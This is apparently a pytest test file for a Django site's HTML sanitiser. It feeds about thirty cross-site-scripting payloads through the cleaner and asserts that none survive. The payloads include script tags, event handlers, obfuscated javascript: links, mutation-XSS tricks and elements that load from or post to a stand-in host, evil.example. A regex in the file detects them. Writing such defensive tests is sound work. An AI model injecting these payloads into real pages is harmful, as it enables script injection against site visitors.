"""What staff paste, or somebody with their password: no script, no style, no foreign load comes out."""

import re

import pytest
from django.template import Context, Template

from pages import richtext
from pages.models import PageBlock
from tests.pages.factories import make_block, make_page

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVa\tScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<p onclick=alert(1)>x</p>",
    '<p style="background:url(https://evil.example/)">x</p>',
    "<iframe src=https://evil.example/></iframe>",
    "<object data=https://evil.example/></object>",
    "<embed src=https://evil.example/>",
    "<form action=https://evil.example/><input name=email></form>",
    "<base href=https://evil.example/>",
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "<link rel=stylesheet href=https://evil.example/>",
    "<style>@import 'https://evil.example/'</style>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<p id=main class=band name=x>x</p>",
    "<x onfocus=alert(1) tabindex=1 autofocus>",
]
HARM = re.compile(
    r"<(script|img|svg|iframe|object|embed|form|base|meta|link|style|video|math|template)|\son\w+=|javascript:|data:|vbscript:|style=|id=|class=",
    re.IGNORECASE,
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_harmful_survives_the_sanitiser(payload):
    assert not HARM.search(richtext.clean(f"<p>before</p>{payload}<p>after</p>"))


def test_what_the_editor_offers_survives():
    html = (
        "<h2>A</h2><h3>B</h3><p><strong>bold</strong> <em>italic</em><br>"
        '<a href="https://example.org/">out</a> <a href="/evidence/">in</a></p>'
        "<ul><li>one</li></ul><ol><li>two</li></ol><blockquote><p>said</p></blockquote>"
    )
    assert richtext.clean(html) == html


def test_an_empty_paragraph_is_no_text():
    assert richtext.clean("<p></p>") == ""


@pytest.mark.django_db
def test_text_is_cleaned_when_it_is_saved():
    block = make_block(make_page(), "<p>fine</p><script>alert(1)</script>")
    assert PageBlock.objects.get(pk=block.pk).body == "<p>fine</p>"


@pytest.mark.django_db
def test_text_written_past_the_forms_is_cleaned_when_it_is_shown(client):
    block = make_block(make_page())
    PageBlock.objects.filter(pk=block.pk).update(body="<p>fine</p><script>alert(1)</script>")
    answer = client.get("/about/").content.decode()
    assert "<p>fine</p>" in answer
    assert "alert(1)" not in answer


@pytest.mark.django_db
def test_content_is_no_template(client):
    make_block(make_page(title="{{ request }}"), "<p>{{ 7|add:7 }} {% now 'Y' %}</p>")
    answer = client.get("/about/").content.decode()
    assert "{{ 7|add:7 }}" in answer
    assert "{{ request }}" in answer


def test_plain_fields_are_escaped():
    shown = Template("{{ page.title }}").render(Context({"page": {"title": "<script>"}}))
    assert shown == "&lt;script&gt;"
